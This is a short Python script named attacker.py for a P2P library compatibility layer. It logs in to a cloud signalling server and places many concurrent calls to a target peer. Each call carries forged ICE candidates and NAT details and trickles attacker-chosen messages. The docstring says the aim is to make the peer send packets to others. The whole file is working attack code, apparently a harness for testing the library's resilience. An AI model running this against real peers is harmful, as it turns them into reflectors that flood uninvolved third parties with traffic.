"""``python attacker.py LOGIN PEER ATTACK``: calls a peer so that it sends packets to others.

ATTACK is JSON: ``calls`` at once, with the ``candidates`` and the ``nat`` that are given, which are
lies; after each answer the texts in ``trickles`` (objects); then nothing for ``seconds``.
Prints how many calls were answered.
"""

from __future__ import annotations

import json
import logging
import sys
from typing import Any

import gevent

from kkp2p_compat import connect_ctx_t
from kkp2p_compat._codes import CONNECT_P2P
from kkp2p_compat._errors import KKP2PError
from kkp2p_compat.control.client import CloudClient
from kkp2p_compat.engine.calls.cloud_call import call_peer
from kkp2p_compat.engine.signalling.offer import parse_direct_answer_untrusted
from kkp2p_compat.engine.signalling.own_side import OwnSide
from kkp2p_compat.engine.signalling.trickle import Trickle
from kkp2p_compat.traversal.candidates import parse_untrusted
from kkp2p_compat.traversal.nat import NatBehaviour

PORT = 3080


def call(client: CloudClient, peer_id: str, attack: dict[str, Any]) -> bool:
    ours = OwnSide(parse_untrusted(attack["candidates"]), NatBehaviour(**attack["nat"]))
    offer = ours.offer(connect_ctx_t(peer_id), CONNECT_P2P)

    try:
        with call_peer(client, peer_id, offer, attack["seconds"] + 1) as (link, made):
            answer = made.answer.get()
            public, _ = parse_direct_answer_untrusted(answer)
            keys = ours.keys(public, offer, answer)
            trickle = Trickle(keys.trickle, True, lambda text: link.trickle(made.number, text))
            for fields in attack["trickles"]:
                trickle.send(fields)
            gevent.sleep(attack["seconds"])
            return True
    except KKP2PError as error:
        print(f"not answered: {error}")
        return False


def main() -> None:
    login, peer_id, attack = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
    client = CloudClient(
        login, PORT, [login], logging.getLogger(), ca_file=None, on_offer=print, on_login_lost=print
    )
    client.prepare()
    calls = [gevent.spawn(call, client, peer_id, attack) for _ in range(attack["calls"])]
    gevent.joinall(calls, raise_error=True)
    print("answered", sum(bool(each.value) for each in calls))
    client.close()


if __name__ == "__main__":
    main()
